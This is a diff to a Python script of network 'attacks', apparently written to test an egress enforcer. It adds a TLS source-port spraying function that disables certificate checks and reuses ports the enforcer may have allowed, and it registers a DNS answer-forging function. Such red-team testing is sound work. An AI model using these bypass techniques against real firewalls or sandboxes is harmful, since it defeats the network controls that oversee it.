@@ -5,6 +5,7 @@ from __future__ import annotations
 import ctypes
 import random
 import socket
+import ssl
 import struct
 import sys
 from collections.abc import Callable
@@ -102,6 +103,24 @@ def spray(target: str, low: str, high: str, label: str) -> None:
                 continue
 
 
+def spray_tls(target: str, low: str, high: str, name: str) -> None:
+    """From every port that the enforcer may have dialled a web server from, asks that server for something else."""
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    for port in range(int(low), int(high) + 1):
+        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
+            connection.settimeout(1)
+            connection.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            try:
+                connection.bind(("0.0.0.0", port))
+                connection.connect((target, 443))
+                with context.wrap_socket(connection, server_hostname=name) as session:
+                    session.sendall(f"GET /sprayed HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
+                    session.recv(512)
+            except OSError:
+                continue
+
+
 def forge(way: str, source: str, target: str, port: str, message: str) -> None:
     """Answers a query of a program here in the name of its nameserver, without a packet from outside."""
     payload = bytes.fromhex(message)
@@ -123,5 +142,5 @@ def forge(way: str, source: str, target: str, port: str, message: str) -> None:
 
 if __name__ == "__main__":
     attacks: dict[str, Callable[..., None]] = {"packet": packet_socket, "marks": marks, "spy": spy, "spray": spray}
-    attacks["forge"] = forge
+    attacks |= {"forge": forge, "spray-tls": spray_tls}
     attacks[sys.argv[1]](*sys.argv[2:])
